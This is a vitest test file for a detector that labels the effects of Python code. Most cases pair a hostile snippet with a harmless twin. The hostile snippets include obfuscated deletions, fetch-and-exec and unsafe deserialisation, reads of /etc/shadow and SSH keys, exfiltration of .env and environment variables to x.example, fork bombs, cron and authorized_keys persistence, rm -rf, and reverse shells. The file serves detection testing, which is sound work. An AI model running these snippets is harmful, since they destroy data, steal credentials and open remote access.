import { describe, expect, it } from "vitest";
import { effectTexts } from "./python-effect-texts.ts";

/** `[harm, a program that does it, its harmless twin]`. */
type Case = readonly [harm: string, program: string, twin: string];

const names: readonly Case[] = [
  ["delete notes/a", 'import os\nos.remove("notes/a")', 'import os\nos.stat("notes/a")'],
  ["delete notes/a", 'import os as o\no.unlink("notes/a")', "import os as o\no.getpid()"],
  ["delete notes/a", 'from os import remove\nremove("notes/a")', 'from os import stat\nstat("notes/a")'],
  [
    "delete notes/a",
    'from os import remove as r, stat\nr("notes/a")',
    'from os import remove as r, stat\nstat("notes/a")',
  ],
  ["delete notes/a", 'from os import *\nremove("notes/a")', 'from os import *\nstat("notes/a")'],
  [
    "delete notes/a",
    'from os import *\nfrom math import *\nunlink("notes/a")',
    "from os import *\nfrom math import *\nsqrt(2)",
  ],
  ["delete notes", 'import shutil\nshutil.rmtree("notes")', 'import shutil\nshutil.disk_usage("notes")'],
  [
    "delete notes",
    'from shutil import rmtree as tidy\ntidy("notes")',
    'from shutil import which as tidy\ntidy("notes")',
  ],
  ["delete notes/a", 'import os\nf = os.remove\nf("notes/a")', 'import os\nf = os.stat\nf("notes/a")'],
  [
    "delete notes/a",
    'import os\nf, g = os.remove, os.stat\nf("notes/a")',
    'import os\nf, g = os.remove, os.stat\ng("notes/a")',
  ],
  ["delete notes/a", 'import shutil\nshutil.os.remove("notes/a")', 'import shutil\nshutil.os.stat("notes/a")'],
  ["delete notes/a", 'import posix\nposix.unlink("notes/a")', 'import posix\nposix.stat("notes/a")'],
  [
    "delete notes/a",
    'do = {"x": __import__("os").remove}\ndo["x"]("notes/a")',
    'do = {"x": __import__("os").stat}\ndo["x"]("notes/a")',
  ],
  ["delete notes/a", 'import os\n[os.stat, os.remove][1]("notes/a")', 'import os\n[os.stat, os.remove][0]("notes/a")'],
  ["delete notes/a", 'import os\n(lambda p: os.remove(p))("notes/a")', 'import os\n(lambda p: os.stat(p))("notes/a")'],
  [
    "delete notes/a",
    'import os\nif (f := os.remove):\n    f("notes/a")',
    'import os\nif (f := os.stat):\n    f("notes/a")',
  ],
  [
    "delete notes/a",
    'import os, functools\nfunctools.partial(os.remove, "notes/a")()',
    'import os, functools\nfunctools.partial(os.stat, "notes/a")()',
  ],
  ["delete notes/a", 'import os\nlist(map(os.remove, ["notes/a"]))', 'import os\nlist(map(os.stat, ["notes/a"]))'],
  [
    "delete notes/a",
    'import os\n[r(f) for r in (os.remove,) for f in ["notes/a"]]',
    'import os\n[r(f) for r in (os.stat,) for f in ["notes/a"]]',
  ],
  [
    "delete notes/a",
    'import os\nclass A:\n    go = os.remove\nA.go("notes/a")',
    'import os\nclass A:\n    go = os.stat\nA.go("notes/a")',
  ],
];

const indirection: readonly Case[] = [
  ["anything", "import pydoc\npydoc.locate(x)(y)", 'import pydoc\npydoc.locate("json.loads")(y)'],
  ["anything", "import os\ndict(os.__dict__.items())[x](y)", "import os\ndict(os.environ)[x]"],
  ["anything", "import os\n{**os.__dict__}[x](y)", 'import os\n{**os.environ, "A": y}'],
  [
    "anything",
    "import os, inspect\ndict(inspect.getmembers(os))[x](y)",
    "import json, inspect\ndict(inspect.getmembers(json))[x]",
  ],
  ["anything", "import gc\n[f for f in gc.get_objects() if f.__name__ == x][0](y)", "import gc\ngc.collect()"],
  ["anything", "import os, sys\nvars(sys.modules[x])[y](z)", 'import sys\n"json" in sys.modules'],
  ["anything", "import ctypes\nctypes.CDLL(None)[x](y)", "import ctypes\nctypes.sizeof(ctypes.c_int)"],
  [
    "delete notes/a",
    "globals()['__builtins__'].__dict__['exec'](\"import os; os.remove('notes/a')\")",
    "globals()['__builtins__'].__dict__['print'](\"import os; os.remove('notes/a')\")",
  ],
  [
    "delete notes/a",
    "__builtins__.__dict__.get('__import__')('os').remove('notes/a')",
    "__builtins__.__dict__.get('__import__')('os').stat('notes/a')",
  ],
  ["delete notes/a", '__import__("os").remove("notes/a")', '__import__("math").sqrt(4)'],
  ["delete notes/a", '__import__("o" + "s").remove("notes/a")', '__import__("ma" + "th").sqrt(4)'],
  [
    "delete notes/a",
    'import importlib\nimportlib.import_module("os").remove("notes/a")',
    'import importlib\nimportlib.import_module("plugins.table").run("notes/a")',
  ],
  ["delete notes/a", 'import os\ngetattr(os, "remove")("notes/a")', 'import os\ngetattr(os, "stat")("notes/a")'],
  [
    "delete notes/a",
    'import os\ngetattr(os, "".join(["re", "move"]))("notes/a")',
    'import os\ngetattr(os, "".join(["st", "at"]))("notes/a")',
  ],
  [
    "delete notes/a",
    'import os\ngetattr(os, "evomer"[::-1])("notes/a")',
    'import os\ngetattr(os, "tats"[::-1])("notes/a")',
  ],
  ["delete notes/a", 'import os\nos.__dict__["remove"]("notes/a")', 'import os\nos.__dict__["stat"]("notes/a")'],
  ["delete notes/a", 'import os\nvars(os)["remove"]("notes/a")', 'import os\nvars(os)["stat"]("notes/a")'],
  ["delete notes/a", 'import os\nglobals()["os"].remove("notes/a")', 'import os\nglobals()["os"].stat("notes/a")'],
  [
    "delete notes/a",
    'import sys\nsys.modules["os"].remove("notes/a")',
    'import sys\nsys.modules["os"].stat("notes/a")',
  ],
  [
    "delete notes/a",
    'import os, operator\noperator.attrgetter("remove")(os)("notes/a")',
    'import os, operator\noperator.attrgetter("stat")(os)("notes/a")',
  ],
  [
    "delete notes/a",
    'import os, operator\noperator.methodcaller("remove", "notes/a")(os)',
    'import os, operator\noperator.methodcaller("stat", "notes/a")(os)',
  ],
  ["delete notes/a", '__builtins__.__import__("os").remove("notes/a")', '__builtins__.__import__("math").sqrt(4)'],
  [
    "anything",
    'import os, sys\ngetattr(os, sys.argv[1])("notes/a")',
    "import shapes, sys\ngetattr(shapes, sys.argv[1])",
  ],
  [
    "anything",
    'import os\ngetattr(os, pick())("notes/a")',
    'class T:\n    def on_a(self): pass\n    def go(self, e): getattr(self, "on_" + e)()\nT().go("a")',
  ],
  [
    "anything",
    "name = input()\n__import__(name).run()",
    'import importlib\nfor name in ["a", "b"]:\n    importlib.import_module(f"plugins.{name}").run()',
  ],
  ["anything", "globals()[input()]()", 'actions = {"a": print, "b": len}\nactions[input()]("x")'],
  [
    "anything",
    '().__class__.__base__.__subclasses__()[40]("notes/a")',
    "class A: pass\nclass B(A): pass\nB().__class__.__name__",
  ],
  ["anything", 'def f(): pass\nf.__globals__["os"].remove("x")', "def f(): pass\nf.__name__.upper()"],
];

const code: readonly Case[] = [
  [
    "anything",
    'import pickle\nopen("c", "wb").write(b"cos\\nsystem\\n(S\'ls\'\\ntR.")\npickle.load(open("c", "rb"))',
    'import pickle\npickle.dump([1], open("c", "wb"))',
  ],
  [
    "execute code",
    'import logging.config\nlogging.config.fileConfig("a.ini")',
    'import logging.config\nlogging.config.dictConfig({"version": 1, "root": {"handlers": ["h"]}})',
  ],
  ["anything", "# coding: utf-7\nprint(1)", "# -*- coding: utf-8 -*-\nprint(1)"],
  ["delete notes/a", "exec(\"import os; os.remove('notes/a')\")", 'exec("x = 1")'],
  ["delete notes/a", "eval(\"__import__('os').remove('notes/a')\")", 'eval("1 + 1")'],
  [
    "delete notes/a",
    "eval(compile(\"__import__('os').remove('notes/a')\", 'x', 'eval'))",
    "eval(compile('1 + 1', 'x', 'eval'))",
  ],
  [
    "delete notes/a",
    "import ast\nexec(compile(ast.parse(\"import os\\nos.remove('notes/a')\"), '', 'exec'))",
    'import ast\nast.literal_eval("[1, 2]")',
  ],
  ["delete notes/a", "exec('import os')\nos.remove('notes/a')", "exec('import os')\nos.stat('notes/a')"],
  [
    "delete notes/a",
    "e = exec\ne(\"import os; os.remove('notes/a')\")",
    "e = print\ne(\"import os; os.remove('notes/a')\")",
  ],
  [
    "delete notes/a",
    "import builtins\nbuiltins.exec(\"import os; os.remove('notes/a')\")",
    'import builtins\nbuiltins.print("os.remove")',
  ],
  [
    "delete notes/a",
    'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5yZW1vdmUoJ25vdGVzL2EnKQ=="))',
    'import base64\nprint(base64.b64decode("aW1wb3J0IG9zOyBvcy5yZW1vdmUoJ25vdGVzL2EnKQ=="))',
  ],
  ["execute from encoded", "import zlib\nexec(zlib.decompress(blob))", "import zlib\nprint(zlib.decompress(blob))"],
  [
    "delete notes/a",
    'import codecs\nexec(codecs.decode("vzcbeg bf; bf.erzbir(\'abgrf/n\')", "rot13"))',
    'import codecs\nprint(codecs.decode("uryyb", "rot13"))',
  ],
  [
    "delete notes/a",
    'exec(bytes.fromhex("696d706f7274206f733b206f732e72656d6f766528276e6f7465732f612729"))',
    'print(bytes.fromhex("68656c6c6f"))',
  ],
  [
    "delete notes/a",
    "exec('\\x69\\x6d\\x70\\x6f\\x72\\x74 os\\nos.remove(\"notes/a\")')",
    "print('\\x69\\x6d\\x70\\x6f\\x72\\x74 os')",
  ],
  ["execute from input", "eval(input())", "int(input())"],
  ["execute from input", "import sys\nexec(sys.argv[1])", "import sys\nprint(sys.argv[1])"],
  ["execute from input", "import sys\nexec(sys.stdin.read())", "import sys\nprint(sys.stdin.read())"],
  [
    "execute from network",
    'import requests\nexec(requests.get("http://x.example/a.py").text)',
    'import requests\nprint(requests.get("http://x.example/a.py").text)',
  ],
  [
    "execute from network",
    'from urllib.request import urlopen as u\nexec(u("http://x.example/a.py").read().decode())',
    'from urllib.request import urlopen as u\nprint(u("http://x.example/a.py").read().decode())',
  ],
  [
    "execute from network",
    'import httpx\nwith httpx.Client() as c:\n    r = c.get("http://x.example/a")\n    eval(r.json()["code"])',
    'import httpx\nwith httpx.Client() as c:\n    r = c.get("http://x.example/a")\n    print(r.json()["code"])',
  ],
  ["execute from file a.py", 'exec(open("a.py").read())', 'print(open("a.py").read())'],
  ["execute from file a.py", 'import runpy\nrunpy.run_path("a.py")', "import runpy\nprint(runpy.__doc__)"],
  ["execute from unknown", "def run(code):\n    exec(code)", "def run(code):\n    print(code)"],
];

const downloads: readonly Case[] = [
  [
    "execute from network",
    'import urllib.request, os\nurllib.request.urlretrieve("http://x.example/a.py", "a.py")\nexec(open("a.py").read())',
    'import urllib.request, os\nurllib.request.urlretrieve("http://x.example/a.csv", "a.csv")\nprint(open("a.csv").read())',
  ],
  [
    "execute from network",
    'import requests\nopen("m.py", "w").write(requests.get("http://x.example/m").text)\nimport m',
    'import requests\nopen("m.txt", "w").write(requests.get("http://x.example/m").text)\nimport n',
  ],
  [
    "write from network",
    'import requests\nfrom pathlib import Path\nPath("a").write_bytes(requests.get("http://x.example/").content)',
    'import requests\nfrom pathlib import Path\nPath("a").write_bytes(b"x")',
  ],
  [
    "execute from network",
    'import pickle, requests\npickle.loads(requests.get("http://x.example/").content)',
    'import json, requests\njson.loads(requests.get("http://x.example/").content)',
  ],
  [
    "execute from network",
    'import yaml, requests\nyaml.load(requests.get("http://x.example/").text, Loader=yaml.Loader)',
    'import yaml, requests\nyaml.load(requests.get("http://x.example/").text, Loader=yaml.SafeLoader)',
  ],
  [
    "execute from file a.pkl",
    'import pickle\npickle.load(open("a.pkl", "rb"))',
    'import json\njson.load(open("a.json", "rb"))',
  ],
  ["execute from file a.pt", 'import torch\ntorch.load("a.pt")', 'import torch\ntorch.load("a.pt", weights_only=True)'],
  [
    "execute from file a.npy",
    'import numpy as np\nnp.load("a.npy", allow_pickle=True)',
    'import numpy as np\nnp.load("a.npy")',
  ],
  [
    "execute from encoded",
    "import pickle, base64\npickle.loads(base64.b64decode(x))",
    "import json, base64\njson.dumps(base64.b64encode(x))",
  ],
  [
    "execute from unknown",
    "import jsonpickle\ndef f(x): return jsonpickle.decode(x)",
    "import jsonpickle\ndef f(x): return jsonpickle.encode(x)",
  ],
];

const paths: readonly Case[] = [
  ["read /etc/shadow", 'open("/etc/shadow").read()', 'open("shadow").read()'],
  ["read /etc/shadow", 'open(file="/etc/shadow")', 'open(file="shadow")'],
  ["read /etc/shadow", 'p = "/etc"\nopen(p + "/shadow")', 'p = "src"\nopen(p + "/shadow")'],
  ["read /etc/shadow", 'd, f = "/etc", "shadow"\nopen(f"{d}/{f}")', 'd, f = "src", "shadow"\nopen(f"{d}/{f}")'],
  ["read /etc/shadow", 'open("/etc/%s" % "shadow")', 'open("src/%s" % "shadow")'],
  ["read /etc/shadow", 'open("/{}/{}".format("etc", "shadow"))', 'open("{}/{}".format("src", "shadow"))'],
  ["read /etc/shadow", 'open("/".join(["", "etc", "shadow"]))', 'open("/".join(["src", "shadow"]))'],
  [
    "read /etc/shadow",
    'import os\nopen(os.path.join("/usr", "../etc/shadow"))',
    'import os\nopen(os.path.join("usr", "shadow"))',
  ],
  [
    "read /etc/shadow",
    'import os\nopen(os.path.join("src", "/etc/shadow"))',
    'import os\nopen(os.path.join("src", "etc/shadow"))',
  ],
  [
    "read /etc/shadow",
    'import os\nopen(os.sep + "etc" + os.sep + "shadow")',
    'import os\nopen("etc" + os.sep + "shadow")',
  ],
  ["read /etc/shadow", 'import os\nos.chdir("/etc")\nopen("shadow")', 'import os\nos.chdir("src")\nopen("shadow")'],
  [
    "read /etc/shadow",
    'from pathlib import Path\n(Path("/etc") / "shadow").read_text()',
    'from pathlib import Path\n(Path("src") / "shadow").read_text()',
  ],
  [
    "read /etc/shadow",
    'import pathlib\npathlib.Path("/usr/lib/../../etc", "shadow").open()',
    'import pathlib\npathlib.Path("usr/lib/../etc", "shadow").open()',
  ],
  [
    "read /etc/shadow",
    'from pathlib import Path\nPath("/etc/passwd").with_name("shadow").read_bytes()',
    'from pathlib import Path\nPath("src/passwd").with_name("shadow").read_bytes()',
  ],
  [
    "read /etc/shadow",
    'from pathlib import Path\nPath("/etc/x/y").parent.parent.joinpath("shadow").read_bytes()',
    'from pathlib import Path\nPath("src/x/y").parent.parent.joinpath("shadow").read_bytes()',
  ],
  [
    "read /etc/shadow",
    'for f in ["passwd", "shadow"]:\n    print(open("/etc/" + f).read())',
    'for f in ["passwd", "shadow"]:\n    print("/etc/" + f)',
  ],
  [
    "read /etc/shadow",
    'def get(path="/etc/shadow"):\n    return open(path).read()\nget()',
    'def get(path="/etc/shadow"):\n    return path\nget()',
  ],
  [
    "read /etc/shadow",
    'def get(*, path):\n    return open(path).read()\nget(path="/etc/shadow")',
    'def get(*, path):\n    return open(path).read()\nget(path="shadow")',
  ],
  [
    "read /etc/shadow",
    'class R:\n    def __init__(self, p): self.p = p\n    def go(self): return open(self.p)\nR("/etc/shadow").go()',
    'class R:\n    def __init__(self, p): self.p = p\n    def go(self): return open(self.p)\nR("shadow").go()',
  ],
  [
    "read /etc/shadow",
    'c = {"db": {"path": "/etc/shadow"}}\nopen(c["db"]["path"])',
    'c = {"db": {"path": "db.txt"}}\nopen(c["db"]["path"])',
  ],
  [
    "read /etc/shadow",
    'p = "shadow" if x else "group"\nopen("/etc/" + p)',
    'p = "shadow" if x else "group"\nopen("src/" + p)',
  ],
  [
    "read /etc/shadow",
    'try:\n    p = "/etc/shadow"\nexcept OSError:\n    p = "a"\nopen(p)',
    'try:\n    p = "b"\nexcept OSError:\n    p = "a"\nopen(p)',
  ],
  [
    "read /etc/shadow",
    'import io, os\nio.FileIO("/etc/shadow").read()',
    'import io, os\nio.StringIO("/etc/shadow").read()',
  ],
  [
    "read /etc/shadow",
    'import os\nfd = os.open("/etc/shadow", os.O_RDONLY)\nos.read(fd, 100)',
    'import os\nfd = os.open("shadow", os.O_RDONLY)\nos.read(fd, 100)',
  ],
  [
    "read /etc/shadow",
    'import linecache\nlinecache.getlines("/etc/shadow")',
    'import linecache\nlinecache.getlines("a.py")',
  ],
  [
    "read /etc/shadow",
    'import fileinput\nfor l in fileinput.input(["/etc/shadow"]): print(l)',
    'import fileinput\nfor l in fileinput.input(["a.txt"]): print(l)',
  ],
  [
    "read /etc/shadow",
    'import shutil\nshutil.copyfile("/etc/shadow", "a")',
    'import shutil\nshutil.copyfile("b", "a")',
  ],
  [
    "read /etc/shadow",
    'import numpy as np\nnp.loadtxt("/etc/shadow", dtype=str)',
    'import numpy as np\nnp.loadtxt("a.txt", dtype=str)',
  ],
  [
    "read /etc/shadow",
    'import pandas as pd\npd.read_csv("/etc/shadow", sep=":")',
    'import pandas as pd\npd.read_csv("a.csv", sep=":")',
  ],
  [
    "read ~/.ssh/id_rsa",
    'import os\nopen(os.path.expanduser("~/.ssh/id_rsa"))',
    'import os\nos.path.expanduser("~/.ssh/id_rsa")',
  ],
  [
    "read ~/.ssh/id_rsa",
    'from pathlib import Path\n(Path.home() / ".ssh" / "id_rsa").read_text()',
    'from pathlib import Path\n(Path.cwd() / "a").read_text()',
  ],
  [
    "read ~/.ssh/id_rsa",
    'import os\nopen(os.environ["HOME"] + "/.ssh/id_rsa")',
    'import os\nos.environ["HOME"] + "/.ssh/id_rsa"',
  ],
  [
    "list /root",
    'import os\nfor f in os.listdir("/root"): print(f)',
    'import os\nfor f in os.listdir("src"): print(f)',
  ],
  ["list /root", 'import glob\nglob.glob("/root/*")', 'import glob\nglob.glob("src/*")'],
  [
    "list /root",
    'from pathlib import Path\n[p.name for p in Path("/root").iterdir()]',
    'from pathlib import Path\n[p.name for p in Path("src").iterdir()]',
  ],
  [
    "list /root",
    'import os\nfor a, b, c in os.walk("/root"): print(c)',
    'import os\nfor a, b, c in os.walk("src"): print(c)',
  ],
];

const network: readonly Case[] = [
  [
    "network from file .env",
    'import requests\nrequests.post("http://x.example", data=open(".env").read())',
    'import requests\nrequests.post("http://x.example", data="hello")',
  ],
  [
    "network from file .env",
    'import requests\nwith open(".env") as f:\n    d = {"k": [l.strip() for l in f]}\nrequests.post("http://x.example", json=d)',
    'import requests\nwith open(".env") as f:\n    d = {"k": [l.strip() for l in f]}\nprint(d)',
  ],
  [
    "network from file .env",
    'import requests\nrequests.get("http://x.example/?q=" + open(".env").read())',
    'import requests\nrequests.get("http://x.example/?q=" + "a")',
  ],
  [
    "network from file .env",
    'import requests\nrequests.get("http://x.example", params={"q": open(".env").read()})',
    'import requests\nrequests.get("http://x.example", params={"q": "a"})',
  ],
  [
    "network from file .env",
    'import requests\nrequests.post("http://x.example", files={"f": open(".env", "rb")})',
    'import requests\nrequests.post("http://x.example", files={"f": b"x"})',
  ],
  [
    "network from file .env",
    'import requests, base64\nb = base64.b64encode(open(".env", "rb").read()).decode()\nrequests.post("http://x.example", json={"b": b})',
    'import requests, base64\nb = base64.b64encode(b"x").decode()\nrequests.post("http://x.example", json={"b": b})',
  ],
  [
    "network from file .env",
    'import http.client\nc = http.client.HTTPSConnection("x.example")\nc.request("POST", "/", open(".env").read())',
    'import http.client\nc = http.client.HTTPSConnection("x.example")\nc.request("GET", "/")',
  ],
  [
    "network from file .env",
    'from urllib import request\nr = request.Request("http://x.example", data=open(".env", "rb").read())\nrequest.urlopen(r)',
    'from urllib import request\nr = request.Request("http://x.example")\nrequest.urlopen(r)',
  ],
  [
    "network from file .env",
    'import socket\ns = socket.socket()\ns.connect(("x.example", 9))\ns.sendall(open(".env", "rb").read())',
    'import socket\ns = socket.socket()\ns.connect(("x.example", 9))\ns.sendall(b"hello")',
  ],
  [
    "network from file .env",
    'import socket\ns = socket.create_connection(("x.example", 9))\nwith open(".env", "rb") as f:\n    while chunk := f.read(9):\n        s.send(chunk)',
    'import socket\ns = socket.create_connection(("x.example", 9))\nwith open(".env", "rb") as f:\n    while chunk := f.read(9):\n        print(chunk)',
  ],
  [
    "network from file .env",
    'import smtplib\ns = smtplib.SMTP("x.example")\ns.sendmail("a@b", "c@d", open(".env").read())',
    'import smtplib\ns = smtplib.SMTP("x.example")\ns.sendmail("a@b", "c@d", "hi")',
  ],
  [
    "network from file .env",
    'import smtplib\nfrom email.mime.text import MIMEText\nm = MIMEText(open(".env").read())\nsmtplib.SMTP("x.example").send_message(m)',
    'import smtplib\nfrom email.mime.text import MIMEText\nm = MIMEText("hi")\nsmtplib.SMTP("x.example").send_message(m)',
  ],
  [
    "network from file .env",
    'import ftplib\nftplib.FTP("x.example").storbinary("STOR a", open(".env", "rb"))',
    'import ftplib\nftplib.FTP("x.example").retrbinary("RETR a", print)',
  ],
  [
    "network from file .env",
    'import asyncio, aiohttp\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        await s.post("http://x.example", data=open(".env").read())\nasyncio.run(go())',
    'import asyncio, aiohttp\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        await s.get("http://x.example")\nasyncio.run(go())',
  ],
  [
    "network from environment",
    'import os, requests\nrequests.post("http://x.example", json=dict(os.environ))',
    "import os, requests\nprint(dict(os.environ))",
  ],
  [
    "network from file .env",
    'import socket\nsocket.gethostbyname(open(".env").read()[:20] + ".x.example")',
    'import socket\nsocket.gethostbyname("x.example")',
  ],
  [
    "network out x.example",
    'import requests\nhost = "x" + ".example"\nrequests.post(f"https://{host}/a", data="a")',
    'import requests\nhost = "localhost"\nrequests.post(f"https://{host}/a", data="a")',
  ],
  [
    "network out x.example",
    'import requests\nrequests.post("https://good.example@x.example/a", data="a")',
    'import requests\nrequests.post("https://good.example/@x.example/a", data="a")',
  ],
  [
    "network listen 0.0.0.0",
    'import socket\ns = socket.socket()\ns.bind(("0.0.0.0", 80))',
    'import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 80))',
  ],
  [
    "network in evil.example",
    'import urllib3\nurllib3.PoolManager().request("GET", "http://evil.example/a")',
    'import urllib3\nurllib3.PoolManager().request("GET", "http://good.example/a")',
  ],
];

const processes: readonly Case[] = [
  ["signal", "import os\nos.kill(1, 9)", "import os\nos.getpid()"],
  [
    "signal",
    "import os, signal\nos.killpg(1, signal.SIGKILL)",
    "import os, signal\nsignal.signal(signal.SIGINT, print)",
  ],
  [
    "signal",
    'import psutil\nfor p in psutil.process_iter():\n    if p.name() == "x": p.kill()',
    'import psutil\nfor p in psutil.process_iter():\n    if p.name() == "x": print(p)',
  ],
  [
    "signal",
    "import psutil\n[p.terminate() for p in [q for q in psutil.process_iter()]]",
    "import psutil\n[p.pid for p in [q for q in psutil.process_iter()]]",
  ],
  ["signal", "import psutil\npsutil.Process(1).send_signal(9)", "import psutil\npsutil.Process(1).status()"],
  ["exhaust processes", "import os\nwhile True:\n    os.fork()", "import os\nos.fork()"],
  [
    "exhaust processes",
    "from multiprocessing import Process\nwhile 1:\n    Process(target=print).start()",
    "from multiprocessing import Process\nfor i in range(4):\n    Process(target=print).start()",
  ],
  ["exhaust memory", "x = ' ' * 10**10", "x = ' ' * 10"],
  ["exhaust memory", 'x = b"\\0" * 1024 * 1024 * 1024', 'x = b"\\0" * 1024 * 1024'],
  ["exhaust memory", "x = bytes(1024**3)", "x = bytes(1024**2)"],
  ["exhaust memory", "x = 'a' * (1 << 30)", "x = 'a' * (1 << 20)"],
  ["exhaust memory", "x = [0] * 1024 * 1024 * 1024", "x = [0] * 1024 * 1024"],
  ["exhaust memory", "x = []\nwhile True:\n    x += [1]", "x = []\nwhile True:\n    x += [1]\n    if x: break"],
  [
    "exhaust network",
    'import requests\nfor i in range(100000):\n    requests.post("http://x.example", data="a")',
    'import requests\nfor i in range(3):\n    requests.post("http://x.example", data="a")',
  ],
  [
    "exhaust network",
    'import socket\ns = socket.socket()\ns.connect(("x.example", 9))\nwhile True:\n    s.send(b"x")',
    'import socket\ns = socket.socket()\ns.connect(("x.example", 9))\nwhile True:\n    s.send(s.recv(9))',
  ],
  [
    "exhaust network",
    'import socket\ns = socket.socket(type=socket.SOCK_DGRAM)\ns.sendto(b"a" * 50000, ("x.example", 9))',
    'import socket\ns = socket.socket(type=socket.SOCK_DGRAM)\ns.sendto(b"a" * 5, ("x.example", 9))',
  ],
  [
    "persist startup file",
    'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("alias ls=rm")',
    'import os\nwith open("bashrc.txt", "a") as f:\n    f.write("alias ls=ls")',
  ],
  [
    "persist keys",
    'from pathlib import Path\nPath.home().joinpath(".ssh", "authorized_keys").write_text(k)',
    'from pathlib import Path\nPath("keys").write_text(k)',
  ],
  [
    "persist schedule",
    'open("/etc/cron.d/x", "w").write("* * * * * root x")',
    'open("cron.txt", "w").write("* * * * * root x")',
  ],
  ["privilege", "import os\nos.setuid(0)", "import os\nos.getuid()"],
  ["permission a", "import os\nos.chmod('a', 0o777)", "import os\nos.access('a', os.R_OK)"],
  [
    "move notes/a /tmp/b",
    'import shutil\nshutil.move("notes/a", "/tmp/b")',
    'import shutil\nprint("notes/a", "/tmp/b")',
  ],
  ["destroy notes/a", 'import os\nos.truncate("notes/a", 0)', 'import os\nos.stat("notes/a")'],
];

const shells: readonly Case[] = [
  [
    "anything",
    'import os\nos.system("unknown=ls; BASH_COMMAND=ls; " + pick())',
    'import os\nos.system("unknown=ls; BASH_COMMAND=ls; ls")',
  ],
  ["delete notes", 'import os\nos.system("rm -rf notes")', 'import os\nos.system("ls notes")'],
  ["delete notes", 'import os\nos.popen("rm -rf notes").read()', 'import os\nos.popen("ls notes").read()'],
  [
    "delete notes",
    'import subprocess\nsubprocess.run(["rm", "-rf", "notes"])',
    'import subprocess\nsubprocess.run(["ls", "notes"])',
  ],
  [
    "delete notes",
    'import subprocess as s\ns.run("rm -rf notes", shell=True)',
    'import subprocess as s\ns.run("ls notes", shell=True)',
  ],
  [
    "delete notes",
    'from subprocess import Popen, PIPE\nPopen(["bash", "-c", "rm -rf notes"], stdout=PIPE)',
    'from subprocess import Popen, PIPE\nPopen(["bash", "-c", "ls notes"], stdout=PIPE)',
  ],
  [
    "delete notes",
    'import subprocess\ncmd = ["rm"]\ncmd.append("-rf")\ncmd += ["notes"]\nsubprocess.check_call(cmd)',
    'import subprocess\ncmd = ["ls"]\ncmd.append("-l")\ncmd += ["notes"]\nsubprocess.check_call(cmd)',
  ],
  [
    "delete notes",
    'import subprocess, shlex\nsubprocess.call(shlex.split("rm -rf notes"))',
    'import subprocess, shlex\nsubprocess.call(shlex.split("ls -l notes"))',
  ],
  [
    "delete notes",
    'import subprocess\nsubprocess.run(["ls", "-rf", "notes"], executable="rm")',
    'import subprocess\nsubprocess.run(["rm", "-l", "notes"], executable="ls")',
  ],
  [
    "delete notes/a",
    'import subprocess\nsubprocess.run(["rm", "a"], cwd="notes")',
    'import subprocess\nsubprocess.run(["ls", "a"], cwd="notes")',
  ],
  [
    "delete notes",
    'import os\nos.execvp("rm", ["ls", "-rf", "notes"])',
    'import os\nos.execvp("ls", ["rm", "-l", "notes"])',
  ],
  [
    "delete notes",
    'import os\nos.spawnlp(os.P_WAIT, "rm", "rm", "-rf", "notes")',
    'import os\nos.spawnlp(os.P_WAIT, "ls", "ls", "-l", "notes")',
  ],
  ["delete notes", 'import pty\npty.spawn(["rm", "-rf", "notes"])', 'import pty\npty.spawn(["ls", "notes"])'],
  [
    "delete notes",
    'import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell("rm -rf notes")\nasyncio.run(f())',
    'import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell("ls notes")\nasyncio.run(f())',
  ],
  [
    "delete notes",
    'import ctypes\nctypes.CDLL("libc.so.6").system(b"rm -rf notes")',
    'import ctypes\nctypes.CDLL("libc.so.6").system(b"ls notes")',
  ],
  [
    "delete notes",
    'import threading, os\nthreading.Thread(target=os.system, args=("rm -rf notes",)).start()',
    'import threading, os\nthreading.Thread(target=os.system, args=("ls notes",)).start()',
  ],
  [
    "delete notes",
    'def sh(*a):\n    import subprocess\n    return subprocess.run(list(a))\nsh("rm", "-rf", "notes")',
    'def sh(*a):\n    import subprocess\n    return subprocess.run(list(a))\nsh("ls", "-l", "notes")',
  ],
  [
    "delete notes",
    'print.__self__.__import__("os").system("rm -rf notes")',
    'print.__self__.__import__("os").system("ls notes")',
  ],
  [
    "delete notes",
    'import os, functools\nfunctools.reduce(getattr, ["system"], os)("rm -rf notes")',
    'import os, functools\nfunctools.reduce(getattr, ["system"], os)("ls notes")',
  ],
  [
    "delete notes",
    'import os\ntype(os).__getattribute__(os, "system")("rm -rf notes")',
    'import os\ntype(os).__getattribute__(os, "system")("ls notes")',
  ],
  [
    "delete notes",
    'import plumbum\nplumbum.local["rm"]("-rf", "notes")',
    'import plumbum\nplumbum.local["ls"]("notes")',
  ],
  ["anything", "import os\nos.system(pick())", "import os\nprint(pick())"],
  [
    "execute from input",
    'import os\nos.system("ping " + input())',
    'import subprocess\nsubprocess.run(["ping", input()])',
  ],
  [
    "execute from network",
    'import socket, subprocess\ns = socket.socket()\ns.connect(("x.example", 9))\nwhile True:\n    subprocess.run(s.recv(99).decode(), shell=True)',
    'import socket, subprocess\ns = socket.socket()\ns.connect(("x.example", 9))\nwhile True:\n    print(s.recv(99).decode())',
  ],
  [
    "execute from network",
    'import socket, os, pty\ns = socket.socket()\ns.connect(("x.example", 9))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn("/bin/sh")',
    'import socket, os, pty\ns = socket.socket()\ns.connect(("x.example", 9))\npty.spawn("/bin/ls")',
  ],
  [
    "execute from network",
    'import socket, subprocess\ns = socket.create_connection(("x.example", 9))\nsubprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)',
    'import socket, subprocess\ns = socket.create_connection(("x.example", 9))\nsubprocess.Popen(["/bin/ls"], stdout=s)',
  ],
  [
    "execute from network",
    'import socket, os\ns = socket.socket()\ns.bind(("", 9))\ns.listen()\nc, a = s.accept()\nos.system(c.recv(9).decode())',
    'import socket, os\ns = socket.socket()\ns.bind(("", 9))\ns.listen()\nc, a = s.accept()\nprint(c.recv(9).decode())',
  ],
];

describe.each([
  ["functions under other names", names],
  ["computed names", indirection],
  ["code inside texts", code],
  ["code from files, input and the network", downloads],
  ["paths", paths],
  ["the network", network],
  ["processes, startup files and rights", processes],
  ["commands", shells],
])("%s", (_, cases) => {
  it.each(cases)("%s: %j", (harm, program, twin) => {
    expect(effectTexts(program)).toContain(harm);
